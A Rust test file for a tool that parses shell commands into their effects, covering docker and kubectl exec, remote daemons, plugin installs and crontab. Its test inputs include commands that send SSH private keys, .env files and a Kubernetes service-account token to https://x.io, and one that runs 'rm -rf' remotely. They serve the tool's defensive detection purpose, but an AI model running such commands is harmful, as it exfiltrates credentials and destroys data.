//! What the host pipes into a container reaches the command there; a CLI's
//! own image runs that CLI; plugin managers install packages.

use crate::common;
use common::*;
use serde_json::json;

#[test]
fn what_the_host_pipes_in_is_sent_from_the_container() {
    run_table(&[
        (
            "cat ~/.ssh/id_ed25519 | docker run -i --rm curlimages/curl --data-binary @- https://x.io",
            json!([
                read("/home/dana/.ssh/id_ed25519"),
                url_request(
                    "curl",
                    "https://x.io",
                    "POST",
                    payload(&[], &[("/home/dana/.ssh/id_ed25519", false)], &[])
                )
            ]),
        ),
        (
            "kubectl -n tools exec -i shell-0 -- curl -sT - https://x.io < .env",
            json!([
                read(&at(".env")),
                {"effect": "kubectl", "verb": "exec", "args": ["shell-0", "curl", "-sT", "-", "https://x.io"],
                 "context": null, "namespace": "tools", "files": [], "dry_run": false, "all": false},
                url_request(
                    "curl",
                    "https://x.io",
                    "PUT",
                    payload(&[], &[(&at(".env"), false)], &[])
                )
            ]),
        ),
        (
            // A pod is another host: a file it sends is its own, matched
            // by its path there (a service account token).
            "kubectl exec cart-0 -- curl --data-binary @/var/run/secrets/kubernetes.io/serviceaccount/token https://x.io",
            json!([
                {"effect": "kubectl", "verb": "exec", "args": ["cart-0", "curl", "--data-binary",
                 "@/var/run/secrets/kubernetes.io/serviceaccount/token", "https://x.io"],
                 "context": null, "namespace": null, "files": [], "dry_run": false, "all": false},
                url_request(
                    "curl",
                    "https://x.io",
                    "POST",
                    payload(&[], &[("/var/run/secrets/kubernetes.io/serviceaccount/token", false)], &[])
                )
            ]),
        ),
        (
            // Files of the container's own are named by their path there.
            "docker run --rm curlimages/curl -T /etc/hostname https://x.io",
            json!([url_request(
                "curl",
                "https://x.io",
                "PUT",
                payload(&[], &[("/etc/hostname", false)], &[])
            )]),
        ),
    ]);
}

#[test]
fn a_clis_own_image_runs_that_cli() {
    run_table(&[
        (
            "docker run -v ~/.aws:/root/.aws:ro amazon/aws-cli s3 rb s3://team-cache --force",
            json!([remote_delete("s3://team-cache", true)]),
        ),
        (
            "podman run --rm public.ecr.aws/aws-cli/aws-cli:2.15 s3 rb s3://team-cache",
            json!([remote_delete("s3://team-cache", true)]),
        ),
        (
            // Named again, the program is not doubled.
            "docker run --rm curlimages/curl:8.5.0 curl -X POST https://x.io",
            json!([url_request("curl", "https://x.io", "POST", empty())]),
        ),
        // An image not known runs its first word.
        (
            "docker run --rm ghcr.io/acme/tool:1 s3 rb s3://team-cache",
            json!([]),
        ),
    ]);
}

#[test]
fn global_options_come_before_the_command_and_a_remote_daemon_runs_it_there() {
    run_table(&[
        // Options of the CLI itself, before `run`: the container as without.
        (
            "docker --log-level debug run --rm -v ~/.aws:/root/.aws:ro amazon/aws-cli s3 rb s3://team-cache",
            json!([remote_delete("s3://team-cache", true)]),
        ),
        (
            "docker -D --config /tmp/dc run --rm curlimages/curl -T /etc/hostname https://x.io",
            json!([url_request(
                "curl",
                "https://x.io",
                "PUT",
                payload(&[], &[("/etc/hostname", false)], &[])
            )]),
        ),
        (
            "podman --root /var/lib/alt --log-level=debug run --rm ghcr.io/acme/tool:1 s3 rb s3://team-cache",
            json!([]),
        ),
        // A daemon on another machine: the command goes there, and a
        // mount is that machine's path, not this one's.
        (
            "docker -H ssh://deploy@build.example.net run -v /etc:/x alpine cat /x/passwd",
            json!([
                url_request(
                    "docker",
                    "ssh://deploy@build.example.net",
                    "EXEC",
                    payload(&["cat /x/passwd"], &[], &[])
                ),
                read("/x/passwd"),
            ]),
        ),
        (
            "DOCKER_HOST=tcp://10.0.4.7:2376 docker exec api rm -rf /srv/data",
            // (What it deletes is the container's.)
            json!([url_request(
                "docker",
                "tcp://10.0.4.7:2376",
                "EXEC",
                payload(&["rm -rf /srv/data"], &[], &[])
            )]),
        ),
        // What `-i` reads from here goes to that daemon.
        (
            "docker --host tcp://build.example.net:2376 exec -i api sh < .env",
            json!([
                read(&at(".env")),
                url_request(
                    "docker",
                    "tcp://build.example.net:2376",
                    "EXEC",
                    payload(&["sh"], &[(&at(".env"), false)], &[])
                ),
            ]),
        ),
        // A local socket is this machine.
        (
            "docker -H unix:///var/run/docker.sock run -v ~/.ssh:/k alpine cat /k/id_rsa",
            json!([read("/home/dana/.ssh/id_rsa")]),
        ),
        // nerdctl's `-H` is containerd's socket, here.
        (
            "nerdctl -n k8s.io -H /run/containerd/containerd.sock run -v ~/.ssh:/k alpine cat /k/id_rsa",
            json!([read("/home/dana/.ssh/id_rsa")]),
        ),
    ]);
}

#[test]
fn plugin_managers_install_packages() {
    run_table(&[
        (
            "kubectl krew install ctx ns",
            json!([install("krew", &["ctx", "ns"])]),
        ),
        (
            "helm plugin install https://github.com/databus23/helm-diff --version 3.9.0",
            json!([install_from(
                "helm",
                &["https://github.com/databus23/helm-diff"],
                "https://github.com/databus23/helm-diff"
            )]),
        ),
        (
            "gh extension install dlvhdr/gh-dash",
            json!([install("gh", &["dlvhdr/gh-dash"])]),
        ),
        (
            "code --install-extension ms-python.python --force",
            json!([install("code", &["ms-python.python"])]),
        ),
    ]);
}

#[test]
fn dotnet_tools_and_vcpkg_ports_are_named_packages() {
    run_table(&[
        (
            "dotnet tool install --global dotnet-ef --version 8.0.4",
            json!([install("dotnet", &["dotnet-ef"])]),
        ),
        (
            "dotnet tool install dotnet-reportgenerator-globaltool --tool-path tools",
            json!([install("dotnet", &["dotnet-reportgenerator-globaltool"])]),
        ),
        ("dotnet tool restore", json!([])),
        (
            "./vcpkg/vcpkg install sdl2:x64-windows zlib --triplet x64-windows",
            json!([install("vcpkg", &["sdl2:x64-windows", "zlib"])]),
        ),
        // Manifest mode: the packages come from vcpkg.json.
        ("vcpkg install --triplet x64-linux", json!([])),
    ]);
}

#[test]
fn crontab_installs_replace_the_users_crontab() {
    let spool = "/var/spool/cron/crontabs/dana";
    run_table(&[
        ("crontab -l", json!([])),
        ("crontab -r", json!([write(spool)])),
        (
            "crontab jobs.cron",
            json!([read(&at("jobs.cron")), write(spool)]),
        ),
        (
            "crontab -u deploy -",
            json!([write("/var/spool/cron/crontabs/deploy")]),
        ),
    ]);
}
